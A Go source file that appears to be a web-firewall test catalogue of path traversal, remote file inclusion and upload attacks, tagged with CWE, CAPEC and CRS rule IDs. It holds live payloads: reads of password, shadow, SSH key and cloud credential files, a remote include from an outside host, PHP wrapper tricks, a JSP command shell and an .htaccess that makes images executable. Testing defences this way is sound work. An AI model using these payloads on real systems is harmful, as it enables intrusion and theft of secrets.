package attack

// traversal leaves the folder that a name ought to stay in.
func traversal() group {
	return group{"path", "Path traversal", "CWE-22", []entry{
		{"dots", "Climbs out and reads the list of accounts", "CAPEC-126; CRS 930", query("file", "../../../../etc/passwd")},
		{"dots-shadow", "Likewise for their hashes", "CAPEC-126; CRS 930", query("file", "/etc/shadow")},
		{"dots-encoded", "With the dots encoded twice", "CAPEC-64; CRS 930", get("/search?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd")},
		{"backslashes", "The same on Windows", "CAPEC-126; CRS 930", query("file", `..\..\..\windows\win.ini`)},
		{"overlong", "With dots in a form of UTF-8 that is not allowed", "CAPEC-80; CRS 930", get("/search?file=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd")},
		{"null-ending", "Cuts off the ending that the application appends", "CAPEC-52; CRS 930", get("/search?file=../../etc/passwd%00.png")},
		{"environment", "The environment of a process", "CAPEC-126; CRS 930", query("file", "/proc/self/environ")},
		{"ssh-key", "A private key", "CAPEC-126; CRS 930", query("file", "../../root/.ssh/id_rsa")},
		{"dotenv", "A file of settings that was left behind", "CAPEC-87; CRS 930130", get("/.env")},
		{"git", "A repository that was left behind", "CAPEC-87; CRS 930130", get("/.git/config")},
		{"htaccess", "The server's own settings", "CAPEC-87; CRS 930130", get("/.htaccess")},
		{"aws-credentials", "Keys to a cloud", "CAPEC-87; CRS 930130", get("/.aws/credentials")},
		{"json", "In a JSON document", "CAPEC-126; CRS 930", document(`{"attachment":"../../../../../etc/passwd"}`)},
		{"upload-name", "In the name of a file", "CAPEC-126; CRS 930", upload("../../../etc/cron.d/tw", "text/plain", "tw")},
	}}
}

// remoteInclusion has a program take in a file from elsewhere.
func remoteInclusion() group {
	return group{"include", "Inclusion of a file", "CWE-98", []entry{
		{"php-address", "PHP: includes a page by its address", "CAPEC-193; CRS 931", query("include", "http://203.0.113.9/tw.txt?")},
		{"php-filter", "PHP: reads a program through a filter", "CAPEC-252; CRS 933", query("page", "php://filter/convert.base64-encode/resource=config.php")},
		{"php-input", "PHP: includes what the request itself brings", "CAPEC-193; CRS 933", query("page", "php://input")},
		{"php-data", "PHP: includes a data address", "CAPEC-193; CRS 933, 934", query("page", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==")},
		{"php-expect", "PHP: runs a program through a wrapper", "CAPEC-193; CRS 933", query("page", "expect://id")},
		{"php-zip", "PHP: a file within an archive that was uploaded", "CAPEC-193; CRS 933", query("page", "phar://uploads/tw.jpg/x.php")},
	}}
}

// uploads bring files that a server would execute.
func uploads() group {
	return group{"upload", "Upload of a program", "CWE-434", []entry{
		{"php", "A PHP program", "CAPEC-650; CRS 933110", upload("holiday.php", "image/jpeg", "tw")},
		{"php-double-ending", "With a picture's ending before its own", "CAPEC-650; CRS 933110", upload("holiday.jpg.php5", "image/jpeg", "tw")},
		{"phtml", "Another ending that PHP takes", "CAPEC-650; CRS 933110", upload("holiday.phtml", "image/gif", "GIF89a")},
		{"jsp", "A Java page", "CAPEC-650; CRS 944110", upload("holiday.jsp", "text/plain", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>")},
		{"htaccess", "Settings by which pictures become programs", "CAPEC-650; CRS 930", upload(".htaccess", "text/plain", "AddType application/x-httpd-php .jpg")},
		{"bash-profile", "A file that a shell runs at the next sign-in", "CAPEC-650; CRS 930", upload(".bash_profile", "text/plain", "tw")},
	}}
}
